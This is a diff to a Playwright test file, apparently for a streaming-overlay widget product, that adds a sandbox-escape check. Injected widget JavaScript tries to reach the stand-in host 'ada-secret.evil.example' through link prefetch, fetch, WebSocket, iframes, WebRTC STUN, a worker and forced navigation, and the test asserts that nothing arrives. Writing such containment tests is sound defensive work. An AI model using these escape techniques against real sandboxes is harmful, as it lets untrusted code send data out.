@@ -76,6 +76,29 @@ const attacks: Readonly<Record<string, string>> = {
     "add('i', { style: 'float: left; shape-outside: url(' + EVIL + 'shape); offset-path: url(' + EVIL + 'offset#x); clip-path: url(' + EVIL + 'clip#x)' })",
 };
 
+/** Attacks that need a lookup of a host. After a click, the widget leaves its own page. */
+const resolving = `
+  const HOST = 'ada-secret.evil.example';
+  function add(tag, properties) { const e = Object.assign(document.createElement(tag), properties); document.body.append(e); return e; }
+  window.addEventListener('onWidgetLoad', () => {
+    const runs = [
+      ...['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'prerender', 'stylesheet', 'icon'].map((rel) => () => add('link', { rel, href: 'http://' + HOST + '/' + rel })),
+      () => add('meta', { httpEquiv: 'x-dns-prefetch-control', content: 'on' }),
+      () => add('a', { href: 'https://' + HOST + '/', textContent: 'x' }).dispatchEvent(new MouseEvent('mouseover', { bubbles: true })),
+      () => fetch('https://' + HOST + '/'),
+      () => (new Image().src = 'http://' + HOST + '/'),
+      () => new WebSocket('ws://' + HOST + '/'),
+      () => add('iframe', { src: 'http://' + HOST + '/' }),
+      () => new (add('iframe', {}).contentWindow.RTCPeerConnection)({ iceServers: [{ urls: 'stun:' + HOST }] }).createDataChannel('x'),
+      () => new Worker(URL.createObjectURL(new Blob(["fetch('http://" + HOST + "/')"]))),
+      () => (top.location = 'http://' + HOST + '/'),
+    ];
+    for (const run of runs) try { run(); } catch {}
+    document.querySelector('#tried').textContent = 'all';
+  });
+  window.addEventListener('click', () => setTimeout(() => (location = 'http://' + HOST + '/'), 1_500));
+`;
+
 /** Code that tries to block the page in different ways while an alert is shown. */
 const floods: Readonly<Record<string, string>> = {
   microtasks: 'const again = () => Promise.resolve().then(again); again();',
@@ -115,6 +138,8 @@ for (const { name, path } of builds)
       document.querySelector('#tried').textContent = 'all';
     });`;
     await addCustomWidget(product, { html: '<p id="tried"></p>', js });
+    const rect = { x: 700, y: 40, width: 140, height: 60 };
+    await addCustomWidget(product, { html: '<p id="tried"></p>', js: resolving }, { element: 'resolves', rect });
     const profile = await mkdtemp(join(tmpdir(), 'ovation-escapes-'));
     const log = join(profile, 'net-log.json');
     const isNew = name === 'of a desktop';
@@ -130,15 +155,21 @@ for (const { name, path } of builds)
     overlay.on('dialog', (dialog) => downloads.push(dialog.message()));
     await overlay.goto(product.overlay);
     await expect(widgetFrame(overlay).locator('#tried')).toHaveText('all');
+    const tried = widgetFrame(overlay, 'resolves').locator('#tried');
+    await expect(tried).toHaveText('all');
+    await tried.dispatchEvent('click');
+    await expect(overlay.locator('[data-box="resolves"] iframe.frame')).toHaveCount(0);
     await overlay.waitForTimeout(1_500); // waits a fixed time, because an attack that sends nothing gets no answer
     const { length: pages } = context.pages();
     await overlay.goto('about:blank'); // when a page closes, it sends everything that it had not sent
     await overlay.waitForTimeout(500);
+    await overlay.goto('http://heard.example/').catch(() => {}); // this host does not exist, but its lookup proves that the log contains lookups
     await context.close();
     const text = await readFile(log, 'utf8');
     await rm(profile, { recursive: true, force: true, maxRetries: 5 });
     evil.close();
     expect(evil.received).toEqual([]);
+    expect(text).toContain('heard.example');
     expect([...new Set(text.match(/[\w-]+\.evil\.example/g))].sort()).toEqual([]);
     expect(downloads).toEqual([]);
     expect(pages).toBe(2);
